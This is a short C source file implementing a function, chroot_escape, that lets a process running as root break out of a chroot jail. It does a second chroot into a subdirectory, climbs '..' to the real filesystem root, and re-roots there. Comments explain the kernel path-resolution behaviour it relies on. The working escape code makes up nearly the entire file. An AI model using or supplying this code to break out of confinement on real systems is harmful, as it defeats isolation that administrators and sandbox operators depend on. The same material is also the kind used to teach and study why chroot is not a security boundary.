/*
 * escape.c - get out of a chroot, as its root
 *
 * A process has a root directory, where paths that begin with "/" start, and a
 * working directory for all others.  The kernel stops ".." at the first one,
 * and nowhere else.
 *
 * chroot(2) moves the first one and leaves the second.  So a second chroot, to
 * any directory further down, puts us outside of our own root:
 *
 *	/			^ ".." leads up to here
 *	`-- rootfs		| we stand here
 *	    `-- tmp		root: not on our way
 *
 * The topmost directory is the one that is its own parent.
 *
 * See chroot(2), path_resolution(7).
 */
#include <sys/stat.h>
#include <unistd.h>

#include "escape.h"

/* One directory up: 1, or 0 if there is none, or -1. */
static int
climb(void)
{
	struct stat here, above;

	if (stat(".", &here) == -1 || stat("..", &above) == -1)
		return -1;
	if (here.st_dev == above.st_dev && here.st_ino == above.st_ino)
		return 0;
	return chdir("..") == -1 ? -1 : 1;
}

int
chroot_escape(void)
{
	int result;

	if (chroot("tmp") == -1)
		return -1;
	do
		result = climb();
	while (result == 1);
	return result == -1 ? -1 : chroot(".");
}
